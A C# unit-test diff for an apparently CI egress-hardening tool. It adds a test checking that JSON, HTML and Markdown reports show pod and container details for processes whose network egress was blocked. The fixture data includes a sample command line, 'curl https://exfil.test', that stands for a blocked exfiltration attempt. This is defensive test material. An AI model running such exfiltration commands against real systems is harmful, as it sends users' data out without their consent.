@@ -151,6 +151,33 @@ public sealed class JsonReportBuilderTests : IAsyncLifetime
     }
 
     [Fact]
+    public async Task AProcessInAPod_IsReportedWithItsContainer_ValidAndShownInTheViews()
+    {
+        var pod = new ContainerInfo("containerd", new string('c', 64), "web-7d4b9c-xk2p", "0d2d4a3e-6f1b-4c5d-9e8f-7a6b5c4d3e2f", "ci-jobs");
+        var docker = new ContainerInfo("docker", new string('d', 64), "dddddddddddd", null, null);
+        var inPod = new ProcessInfo(70, "/usr/bin/curl", "curl https://exfil.test", [new AncestorInfo(69, "/bin/sh")]) { Container = pod };
+        ApplianceEvent[] events =
+        [
+            SampleEvents.Https(1, Decision.Deny, NetworkEvent.Blocked) with { Process = inPod },
+            SampleEvents.Https(2) with { Process = new ProcessInfo(71, "/usr/bin/wget", "wget x") { Container = docker } },
+            new DetectionEvent(SampleEvents.T0, "egress-blocked", "high", "blocked", new Dictionary<string, string>()) { Process = inPod },
+        ];
+        var run = await RecordRunAsync("pod", EgressMode.Block, events);
+        var json = await JsonReportBuilder.BuildAsync(_fixture.Store, run);
+        ReportSchema.AssertValid(json);
+        var c = ReportSchema.Parse(json)["network"]!.AsArray().Select(n => n!["process"]!["container"]).First(x => x is not null)!;
+        Assert.Equal("containerd", (string?)c["runtime"]);
+        Assert.Equal("ci-jobs", (string?)c["podNamespace"]);
+
+        using var stream = new MemoryStream(Encoding.UTF8.GetBytes(json));
+        var report = await HardenRunner.Reporting.Views.RunReportLoader.ReadAsync(stream);
+        var html = HardenRunner.Reporting.Views.HtmlReport.Render(report);
+        Assert.Contains("curl (70, pod ci-jobs/web-7d4b9c-xk2p)", html, StringComparison.Ordinal);
+        Assert.Contains("wget (71, container dddddddddddd)", html, StringComparison.Ordinal);
+        Assert.Contains(@"curl \(70, pod ci-jobs/web-7d4b9c-xk2p\)", HardenRunner.Reporting.Views.MarkdownSummary.Render(report), StringComparison.Ordinal);
+    }
+
+    [Fact]
     public async Task EmptyRun_StillRunning_IsAValidReport()
     {
         await _fixture.Store.BeginRunAsync(new RunInfo("empty", SampleEvents.T0, EgressMode.Audit));
